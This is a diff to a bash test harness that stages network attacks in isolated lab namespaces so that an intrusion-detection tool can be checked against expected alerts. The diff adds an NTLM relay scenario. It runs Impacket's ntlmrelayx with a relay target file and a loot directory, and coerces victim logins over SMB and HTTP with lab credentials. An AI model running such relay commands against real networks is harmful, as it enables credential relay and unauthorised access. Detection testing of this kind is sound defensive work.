@@ -45,7 +45,7 @@ readonly LDAP_BASE="dc=lab,dc=example"
 
 readonly ALL_SCENARIOS=(scan-syn scan-connect scan-stealth scan-udp scan-grid sweep-445 arp-scan nd-scan dhcp-rogue dhcp-flood dhcp-flip
   dns-flood dns-tunnel ldap-enum ssh-brute ssh-hydra smb-internet smb-files lateral new-device benign intel web-variants ipv6 beacon mcast-ping
-  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload)
+  name-poisoning arp-spoof icmp-tunnel nd-spoof rogue-ra admin-share exe-download exfil-upload ntlm-relay)
 
 # Addresses a capture may contain (anything else means a leak and fails the scenario).
 readonly SAFE_NETS=(net:10.77.0.0/16 net:198.51.100.0/24 net:203.0.113.0/24 net:192.0.2.0/24
@@ -111,7 +111,7 @@ install_tools() {
   for pair in nmap:nmap arping:arping dnsmasq:dnsmasq-base dhclient:isc-dhcp-client dig:dnsutils \
     slapd:slapd ldapsearch:ldap-utils sshd:openssh-server ssh:openssh-client sshpass:sshpass hydra:hydra \
     arpspoof:dsniff atk6-parasite6:thc-ipv6 smbclient:smbclient smbd:samba nmbd:samba nmblookup:samba-common-bin python3:python3 ncat:ncat nc:netcat-openbsd curl:curl tcpdump:tcpdump \
-    busybox:busybox ethtool:ethtool ping:iputils-ping openssl:openssl; do
+    busybox:busybox ethtool:ethtool ping:iputils-ping openssl:openssl impacket-rpcdump:python3-impacket; do
     cmd=${pair%%:*}; pkg=${pair#*:}
     command -v "$cmd" >/dev/null 2>&1 || [ -x "/usr/sbin/$cmd" ] || need+=("$pkg")
   done
@@ -178,10 +178,10 @@ spawn() {
 svc() { spawn "$WORK/service.pids" "$1" "$SERVICE_MAX_SECONDS" "${@:2}"; }
 scen_bg() { spawn "$WORK/scenario.pids" "$1" "$SCENARIO_MAX_SECONDS" "${@:2}"; }
 
-# Wait until something listens on ADDR:PORT (tcp) inside NS.
+# Wait until something listens on ADDR:PORT (tcp) inside NS (TRIES checks 0.2 s apart, 60 by default).
 wait_listen() {
-  local ns=$1 port=$2 i
-  for i in $(seq 60); do
+  local ns=$1 port=$2 tries=${3:-60} i
+  for i in $(seq "$tries"); do
     nsx "$ns" ss -Hltn "sport = :$port" 2>/dev/null | grep -q . && return 0
     sleep 0.2
   done
@@ -1403,6 +1403,52 @@ scenario_exfil_upload() {
     '[{"rule": "exfil.large_upload", "source": {"ip": "10.77.2.20"}, "destination": {"ip": "198.51.100.10", "port": 443}, "evidence": {"file_sharing": false, "destination": "198.51.100.10"}},
     {"rule": "exfil.large_upload", "source": {"ip": "10.77.2.23"}, "destination": {"ip": "198.51.100.10", "port": 8000}, "evidence": {"file_sharing": true, "destination": "transfer.sh"}}]' \
     '  "exclusive": true'
+}
+
+scenario_ntlm_relay() {
+  local relay=/usr/share/doc/python3-impacket/examples/ntlmrelayx.py
+  [ -f "$relay" ] || { log "ntlm-relay: $relay missing (Debian's python3-impacket ships it)"; return 1; }
+  # ntlmrelayx loads every attack module, and its LDAP shadow-credentials attack imports
+  # dsinternals, which Debian does not package: empty stand-ins let it start (that attack is
+  # not used here; any use of them fails loudly).
+  local stub="$WORK/pydeps/dsinternals" m
+  for m in system/Guid:Guid system/DateTime:DateTime common/cryptography/X509Certificate2:X509Certificate2 \
+    common/data/hello/KeyCredential:KeyCredential; do
+    mkdir -p "$stub/$(dirname "${m%%:*}")"
+    printf 'class %s:\n    def __init__(self, *a, **k):\n        raise RuntimeError("dsinternals is not installed")\n' "${m#*:}" >"$stub/${m%%:*}.py"
+  done
+  find "$stub" -type d -exec touch {}/__init__.py \;
+  # Impacket's ntlmrelayx on 10.77.2.66 takes SMB sessions on 445 and HTTP on 80 and relays their
+  # NTLM authentication to SMB on the servers 10.77.1.10 and 10.77.1.20, one victim each (Debian's
+  # Python, where python3-impacket lives).
+  mkdir -p "$WORK/relay-loot"
+  printf 'smb://10.77.1.10\nsmb://10.77.1.20\n' >"$WORK/relay-targets.txt"
+  # It runs until its standard input ends: a bounded sleep holds it open.
+  scen_bg rogue sh -c "sleep 120 | PYTHONPATH='$WORK/pydeps' /usr/bin/python3 '$relay' -tf '$WORK/relay-targets.txt' -smb2support \
+    --no-wcf-server --no-raw-server --no-multirelay -l '$WORK/relay-loot'"
+  # Impacket takes a while to load all its protocol clients.
+  wait_listen rogue 445 300 && wait_listen rogue 80
+  # The victim: workstation WS20 opens a share on the poisoner (as it would after an LLMNR answer or
+  # a coerced connection), signing in as labuser. Impacket's server speaks SMB 2.0.2 only, which
+  # Samba's client leaves out unless asked (Windows clients offer it).
+  nsx ws20 timeout 20 smbclient -s "$WORK/smb-client.conf" --option='client min protocol=SMB2_02' -n WS20 \
+    -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.2.66/files -c ls \
+    >"$WORK/logs/ntlm-relay.txt" 2>&1 || true
+  # A second victim signs in over HTTP with NTLM (curl --ntlm, as a coerced WebDAV client would).
+  nsx ws22 curl -s -o /dev/null --noproxy '*' --max-time 15 --ntlm -u 'PKLLAB\helpdesk:Help-Passw0rd' http://10.77.2.66/files/ \
+    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
+  # And an ordinary session: WS21 opens the server's share itself.
+  nsx ws21 timeout 20 smbclient -s "$WORK/smb-client.conf" -n WS21 -U "PKLLAB/$LAB_USER%$LAB_PASS" //10.77.1.10/public -c ls \
+    >>"$WORK/logs/ntlm-relay.txt" 2>&1 || true
+  sleep 2
+  stop_capture
+  require ntlm-relay 6 "tcp port 445 and host 10.77.2.20 and host 10.77.2.66"
+  require ntlm-relay 6 "tcp port 445 and host 10.77.2.66 and host 10.77.1.10"
+  require ntlm-relay 6 "tcp port 80 and host 10.77.2.22 and host 10.77.2.66"
+  require ntlm-relay 6 "tcp port 445 and host 10.77.2.66 and host 10.77.1.20"
+  expect ntlm-relay "Impacket ntlmrelayx (Debian python3-impacket 0.10) on 10.77.2.66 relays the NTLM authentication of labuser from workstation WS20 (10.77.2.20, smbclient -n WS20 to \\\\\\\\10.77.2.66\\\\files) to SMB on 10.77.1.10, and of helpdesk from 10.77.2.22 over HTTP (curl --ntlm; curl gives the machine's host name as workstation) to SMB on 10.77.1.20 (both Samba, guest mapping). WS21 (10.77.2.21) signs in to 10.77.1.10 itself: no relay alert. WS20's SMB session with the relay host, a workstation, also raises lateral.workstation_to_workstation." \
+    '[{"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.10", "port": 445}, "evidence": {"victim": "10.77.2.20", "user": "PKLLAB\\labuser", "workstation": "WS20"}},
+    {"rule": "ntlm.relay", "source": {"ip": "10.77.2.66"}, "destination": {"ip": "10.77.1.20", "port": 445}, "evidence": {"victim": "10.77.2.22", "user": "PKLLAB\\helpdesk", "victim_connected_to_port": 80}}]'
 }
 
 # ------------------------------------------------------------------ runner
